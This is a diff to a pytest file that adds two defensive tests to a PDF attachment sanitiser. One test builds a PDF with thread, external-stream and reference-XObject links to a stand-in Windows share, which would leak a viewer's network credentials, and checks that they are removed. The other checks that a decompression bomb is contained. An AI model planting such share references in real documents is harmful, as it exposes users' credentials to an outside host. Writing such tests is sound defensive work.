@@ -5,6 +5,7 @@ form's value; a photo loses its metadata; anything else is refused for a reason 
 from __future__ import annotations
 
 import io
+import resource
 
 import pikepdf
 import pytest
@@ -16,7 +17,8 @@ from portal.core.attachments import (
     safe_file_name,
 )
 from tests.support.pdfs import (
-    EMBEDDED_BYTES, EMBEDDED_NAME, FIELD_TEXT, PAGE_TEXT, SCRIPT, hostile_pdf, page_text, password_pdf, plain_pdf,
+    EMBEDDED_BYTES, EMBEDDED_NAME, FIELD_TEXT, PAGE_TEXT, SCRIPT, hostile_pdf, object_stream_bomb, page_text,
+    password_pdf, plain_pdf,
 )
 from tests.support.tips import jpeg_bytes
 
@@ -74,6 +76,55 @@ def test_an_action_where_no_reader_looks_for_one_is_refused_rather_than_kept() -
     with pytest.raises(AttachmentRefused) as refused:
         clean_pdf(out.getvalue(), max_bytes=LIMIT)
     assert refused.value.reason == "not_cleanable"
+
+
+def test_references_to_other_files_are_removed_whatever_holds_them() -> None:
+    """Besides GoToR and Launch, a PDF reaches another file through a thread action's /F (ISO
+    32000-1, 12.6.4.7: "the file containing the thread"), a stream whose data is in an external
+    file (7.3.8.2, /F) and a reference XObject (8.10.4, /Ref). A Windows share named there
+    (\\\\host\\share) makes the viewer connect to it, sending the officer's network credentials."""
+    share = "\\\\203.0.113.9\\share\\x.pdf"
+    with pikepdf.open(io.BytesIO(plain_pdf())) as pdf:
+        page = pdf.pages[0]
+        thread = pikepdf.Dictionary(S=pikepdf.Name.Thread, F=pikepdf.String(share), D=0)
+        page.obj.Annots = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 50, 50]), A=thread))])
+        outside = pdf.make_stream(b"", F=pikepdf.String(share))
+        proxy = pdf.make_stream(b"", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=pikepdf.Array([0, 0, 9, 9]),
+                                Ref=pikepdf.Dictionary(F=pikepdf.String(share), Page=0))
+        page.obj.Resources.XObject = pikepdf.Dictionary(X1=proxy)
+        page.obj.Contents = pikepdf.Array([page.obj.Contents, outside])
+        out = io.BytesIO()
+        pdf.save(out)
+    assert out.getvalue().count(b"203.0.113.9") == 3
+
+    cleaned = clean_attachment(out.getvalue(), max_bytes=LIMIT)
+
+    assert b"203.0.113.9" not in cleaned.data
+    assert cleaned.removed == {"external_actions": 3}
+    assert page_text(cleaned.data) == PAGE_TEXT
+    with pikepdf.open(io.BytesIO(cleaned.data)) as pdf:
+        assert active_content(pdf) == {}
+
+
+def test_a_pdf_that_unpacks_to_a_gigabyte_costs_the_web_process_no_memory() -> None:
+    """An object stream of a megabyte that unpacks to a gigabyte: qpdf unpacks a whole object
+    stream to read one object of it, so the PDF is read in a child process whose memory is
+    bounded; the web process that called does not grow, and the file is refused or kept without
+    the padding, never a 500."""
+    raw = object_stream_bomb(1024)
+    assert len(raw) < 2 * 1024 * 1024
+    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss  # KiB on Linux
+
+    try:
+        cleaned = clean_attachment(raw, max_bytes=LIMIT)
+    except AttachmentRefused as refused:
+        assert refused.reason == "not_pdf"
+    else:
+        assert cleaned.kind == PDF and len(cleaned.data) < 100_000
+
+    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before) / 1024
+    assert grown_mib < 100
 
 
 def test_a_pdf_that_needs_a_password_is_refused_as_encrypted() -> None:
